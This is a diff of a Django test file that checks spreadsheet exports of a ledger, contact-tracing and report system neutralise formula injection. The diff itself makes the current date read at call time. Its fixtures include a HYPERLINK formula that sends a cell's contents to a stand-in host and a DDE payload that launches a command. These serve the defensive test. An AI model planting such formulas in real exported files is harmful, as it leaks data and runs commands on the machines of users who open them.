@@ -32,8 +32,12 @@ from tests.people.ids import resident_id
 HYPERLINK = '=HYPERLINK("http://x?d="&B3,"点击查看")'
 DDE = "=cmd|' /C calc'!A0"
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
-TODAY = timezone.localdate()
 REPORT_DAY = datetime.date(2020, 2, 2)
+
+
+def _today() -> datetime.date:
+    """Read when used: a run may cross local midnight."""
+    return timezone.localdate()
 
 
 def workbook_parts(content: bytes) -> tuple[list[str], list[str]]:
@@ -106,7 +110,7 @@ def test_an_imported_formula_comes_out_of_the_ledger_export_as_quoted_text(tree,
                                   [DDE, resident_id("19800101", "102"), "13812345679", "@东岳村", "-"]])
     assert set(Person.objects.values_list("name", flat=True)) == {HYPERLINK, DDE}  # stored as typed
 
-    response = login(worker).get("/ledger/export/", {"region": factories.VILLAGE_A1, "date": TODAY.isoformat()})
+    response = login(worker).get("/ledger/export/", {"region": factories.VILLAGE_A1, "date": _today().isoformat()})
 
     assert response.status_code == 200
     assert_inert(response.content)
@@ -143,11 +147,11 @@ def scene(tree, tmp_path):
 
 
 ENDPOINTS = {
-    "ledger page": lambda s: ("/ledger/export/", {"region": factories.COUNTY, "date": TODAY.isoformat()}),
-    "ledger api": lambda s: ("/api/ledger/export", {"region": factories.COUNTY, "date": TODAY.isoformat()}),
+    "ledger page": lambda s: ("/ledger/export/", {"region": factories.COUNTY, "date": _today().isoformat()}),
+    "ledger api": lambda s: ("/api/ledger/export", {"region": factories.COUNTY, "date": _today().isoformat()}),
     "audit log": lambda s: ("/audit/export.xlsx", {}),
     "exposure contacts": lambda s: ("/tracing/exposure/export/", {"person": s["subject"].pk}),
-    "daily table": lambda s: ("/rollup/daily.xlsx", {"region": factories.COUNTY, "date": TODAY.isoformat()}),
+    "daily table": lambda s: ("/rollup/daily.xlsx", {"region": factories.COUNTY, "date": _today().isoformat()}),
     "report page": lambda s: (reverse("reports:report_xlsx", args=[factories.VILLAGE_A1, REPORT_DAY.isoformat()]), {}),
     "report api": lambda s: (f"/api/reports/daily/{factories.VILLAGE_A1}/{REPORT_DAY}/xlsx", {}),
     "summary page": lambda s: (reverse("reports:summary_xlsx"), {"date": REPORT_DAY.isoformat()}),
